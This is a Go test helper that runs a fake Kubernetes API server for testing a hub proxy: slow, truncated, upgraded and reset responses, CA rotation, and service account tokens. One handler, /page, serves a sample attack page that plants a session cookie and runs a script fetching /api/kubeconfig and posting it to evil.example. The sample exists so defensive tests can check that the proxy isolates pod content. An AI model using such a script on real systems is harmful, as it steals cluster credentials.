// Package fakecluster is an HTTPS server for tests that stands in for a
// cluster's API server behind an agent: what the hub's probes need, paths
// that answer in the ways the proxy must handle (slow, cut short, upgraded,
// redirected), a certificate for kubernetes.default.svc from its own CA, and
// a service account directory as a pod would have it.
package fakecluster

import (
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/tetherhq/tether/internal/pki"
	"github.com/tetherhq/tether/internal/testutil/files"
)

// Cluster is an HTTPS server standing in for an API server: what the
// hub's probes need, with a certificate for kubernetes.default.svc from its
// own CA, and a service account directory as a pod would have it.
type Cluster struct {
	CA    *pki.CA
	Srv   *httptest.Server
	SADir string
	cert  atomic.Pointer[tls.Certificate] // what it serves; RotateCA swaps it

	mu     sync.Mutex
	Tokens []string       // the bearer tokens of requests, in order
	Paths  map[string]int // requests per path
	Conns  map[string]int // requests per path and client address (connection)
	Gate   chan struct{}  // /stream waits on it between its events

	// ReadyzDelay is how long /readyz waits before it answers (or until
	// its request is gone), and ReadyzStatus, when not 0, the status it
	// answers with.
	ReadyzDelay  atomic.Int64 // a time.Duration
	ReadyzStatus atomic.Int32
	// ReadyzGate, when set, holds each /readyz until it can receive from
	// the channel (or its request is gone).
	ReadyzGate atomic.Pointer[chan struct{}]
	// HandshakeGate, when set, holds each TLS handshake until it can
	// receive from the channel; Handshaking counts those held now.
	HandshakeGate atomic.Pointer[chan struct{}]
	Handshaking   atomic.Int32
	// ReviewsFail makes the access reviews the tests answer fail.
	ReviewsFail atomic.Bool
	// BigSent counts the bytes /big has written; Watching, the /watch and
	// /partial answers under way.
	BigSent  atomic.Int64
	Watching atomic.Int32
}

// Count counts the requests for path.
func (fc *Cluster) Count(path string) int {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	return fc.Paths[path]
}

// ConnsFor counts the requests for path by the connection they came on.
func (fc *Cluster) ConnsFor(path string) map[string]int {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	conns := map[string]int{}
	for k, n := range fc.Conns {
		if strings.HasPrefix(k, path+" from ") {
			conns[k] = n
		}
	}
	return conns
}

// Release lets /stream send its next event.
func (fc *Cluster) Release() { fc.Gate <- struct{}{} }

// NewCA makes a cluster's CA, and the API server's certificate from
// it for kubernetes.default.svc and 127.0.0.1.
func NewCA(t *testing.T, name string) (*pki.CA, tls.Certificate) {
	t.Helper()
	ca, err := pki.NewCA(name, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := ca.IssueTLS(pki.Leaf{CommonName: "kube-apiserver", Hosts: []string{"kubernetes.default.svc", "127.0.0.1"}})
	if err != nil {
		t.Fatal(err)
	}
	return ca, cert
}

// PartialLength is the Content-Length of /partial, which sends half.
const PartialLength = 64 << 10

func New(t *testing.T) *Cluster {
	t.Helper()
	ca, cert := NewCA(t, "test cluster CA")
	fc := &Cluster{CA: ca, SADir: t.TempDir(), Paths: map[string]int{}, Conns: map[string]int{}, Gate: make(chan struct{})}
	fc.cert.Store(&cert)
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		json.NewEncoder(w).Encode(map[string]any{"path": r.URL.RequestURI(), "header": r.Header, "host": r.Host})
	})
	// A page a pod serves, as a service proxy passes it on: what anyone
	// who may run a pod writes.
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		http.SetCookie(w, &http.Cookie{Name: "__Host-tether_session", Value: "planted", Path: "/", Secure: true})
		w.Header().Set("Clear-Site-Data", `"cookies"`)
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<script>fetch("/api/kubeconfig").then(r => r.text()).then(k => fetch("https://evil.example/", {method: "POST", body: k}))</script>`)
	})
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		http.Redirect(w, r, "https://elsewhere.example.com/", http.StatusFound)
	})
	mux.HandleFunc("/refuse-upgrade", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		http.Error(w, "forbidden", http.StatusForbidden)
	})
	mux.HandleFunc("/api/v1/namespaces/default/pods/web/exec", func(w http.ResponseWriter, r *http.Request) {
		// An exec as the kubelet answers kubectl over WebSocket
		// (v5.channel.k8s.io): "ready" on stdout, then it reads as many
		// bytes as the query's "bytes" says, and says "done" on stdout.
		fc.Note(r)
		w.Header().Set("Connection", "Upgrade")
		w.Header().Set("Upgrade", "websocket")
		w.Header().Set("Sec-WebSocket-Protocol", "v5.channel.k8s.io")
		w.WriteHeader(http.StatusSwitchingProtocols)
		conn, brw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		n, _ := strconv.ParseInt(r.URL.Query().Get("bytes"), 10, 64)
		brw.WriteString("\x82\x08\x01ready\r\n")
		brw.Flush()
		if _, err := io.CopyN(io.Discard, brw, n); err != nil {
			return
		}
		brw.WriteString("\x82\x07\x01done\r\n")
		brw.Flush()
	})
	mux.HandleFunc("/echo-upgrade", func(w http.ResponseWriter, r *http.Request) {
		// Switches to a protocol that echoes each byte back, as exec and
		// port-forward switch to theirs.
		fc.Note(r)
		w.Header().Set("Connection", "Upgrade")
		w.Header().Set("Upgrade", "echo")
		w.WriteHeader(http.StatusSwitchingProtocols)
		conn, brw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		io.Copy(conn, brw)
	})
	// Switches protocols, sends a greeting, and then its connection is
	// reset: an API server (or kubelet) that failed mid-session.
	mux.HandleFunc("/reset-upgrade", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		w.Header().Set("Connection", "Upgrade")
		w.Header().Set("Upgrade", "echo")
		w.WriteHeader(http.StatusSwitchingProtocols)
		conn, brw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		brw.WriteString("hello")
		brw.Flush()
		brw.ReadByte() // what the client says first
		if tc, ok := conn.(*tls.Conn); ok {
			tc.NetConn().(*net.TCPConn).SetLinger(0)
		}
		conn.Close()
	})
	mux.HandleFunc("/stream", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		io.WriteString(w, "event 1\n")
		w.(http.Flusher).Flush()
		select {
		case <-fc.Gate:
		case <-r.Context().Done():
			return
		}
		io.WriteString(w, "event 2\n")
	})
	// A watch: event 1, then nothing until the test says. With split, half
	// of event 2 comes first, and the test's release sends its rest and
	// event 3 in one write. Framed as the API server frames JSON or, with
	// protobuf, protobuf.
	mux.HandleFunc("/watch", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		fc.Watching.Add(1)
		defer fc.Watching.Add(-1)
		event := func(n int) []byte { return fmt.Appendf(nil, `{"type":"ADDED","n":%d}`+"\n", n) }
		if r.URL.Query().Has("protobuf") {
			w.Header().Set("Content-Type", "application/vnd.kubernetes.protobuf;stream=watch")
			event = func(n int) []byte { return append(binary.BigEndian.AppendUint32(nil, 3), 'e', 'v', byte('0'+n)) }
		} else {
			w.Header().Set("Content-Type", "application/json")
		}
		w.Write(event(1))
		if r.URL.Query().Has("split") {
			w.Write(event(2)[:5])
		}
		w.(http.Flusher).Flush()
		if r.URL.Query().Has("split") {
			select {
			case <-fc.Gate:
			case <-r.Context().Done():
				return
			}
			w.Write(append(event(2)[5:], event(3)...))
			w.(http.Flusher).Flush()
		}
		<-r.Context().Done()
	})
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		chunk := make([]byte, 32<<10)
		for {
			n, err := w.Write(chunk)
			fc.BigSent.Add(int64(n))
			if err != nil {
				return
			}
		}
	})
	// An answer of known length, half of it sent, the rest never.
	mux.HandleFunc("/partial", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		fc.Watching.Add(1)
		defer fc.Watching.Add(-1)
		w.Header().Set("Content-Length", strconv.Itoa(PartialLength))
		w.Write(make([]byte, PartialLength/2))
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	mux.HandleFunc("/large", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		w.Write(make([]byte, 256<<10))
	})
	mux.HandleFunc("/readyz", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		if d := time.Duration(fc.ReadyzDelay.Load()); d > 0 {
			select {
			case <-time.After(d):
			case <-r.Context().Done():
				return
			}
		}
		if gate := fc.ReadyzGate.Load(); gate != nil {
			select {
			case <-*gate:
			case <-r.Context().Done():
				return
			}
		}
		if code := int(fc.ReadyzStatus.Load()); code != 0 {
			http.Error(w, "readyz check failed", code)
			return
		}
		w.Write([]byte("ok"))
	})
	mux.HandleFunc("/version", func(w http.ResponseWriter, r *http.Request) {
		fc.Note(r)
		w.Write([]byte(`{"major":"1","minor":"36","gitVersion":"v1.36.3-test"}`))
	})
	fc.Srv = httptest.NewUnstartedServer(mux)
	fc.Srv.TLS = &tls.Config{GetCertificate: func(*tls.ClientHelloInfo) (*tls.Certificate, error) {
		if g := fc.HandshakeGate.Load(); g != nil {
			fc.Handshaking.Add(1)
			<-*g
			fc.Handshaking.Add(-1)
		}
		return fc.cert.Load(), nil
	}}
	fc.Srv.StartTLS()
	// StartTLS adds httptest's own certificate, which a client that sends
	// no server name (one dialing an IP address) would get instead.
	fc.Srv.TLS.Certificates = nil
	t.Cleanup(fc.Srv.Close)
	fc.WriteToken(t, "service-account-token-1")
	if err := os.WriteFile(filepath.Join(fc.SADir, "ca.crt"), ca.CertPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	return fc
}

// RotateCA gives the cluster a new CA, as when its control plane's CA is
// replaced: the API server restarts with a certificate from the new CA,
// dropping every connection, and pods see the new ca.crt.
func (fc *Cluster) RotateCA(t *testing.T) {
	t.Helper()
	ca, cert := NewCA(t, "test cluster CA, rotated")
	fc.cert.Store(&cert)
	fc.Srv.CloseClientConnections()
	files.Replace(t, filepath.Join(fc.SADir, "ca.crt"), string(ca.CertPEM))
}

func (fc *Cluster) Note(r *http.Request) {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	fc.Tokens = append(fc.Tokens, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
	fc.Paths[r.URL.Path]++
	fc.Conns[r.URL.Path+" from "+r.RemoteAddr]++
}

func (fc *Cluster) LastToken() string {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	if len(fc.Tokens) == 0 {
		return ""
	}
	return fc.Tokens[len(fc.Tokens)-1]
}

// WriteToken replaces the token file the way the kubelet does: a new file
// renamed into place.
func (fc *Cluster) WriteToken(t *testing.T, token string) {
	t.Helper()
	files.Replace(t, filepath.Join(fc.SADir, "token"), token)
}

func (fc *Cluster) Addr() string { return fc.Srv.Listener.Addr().String() }
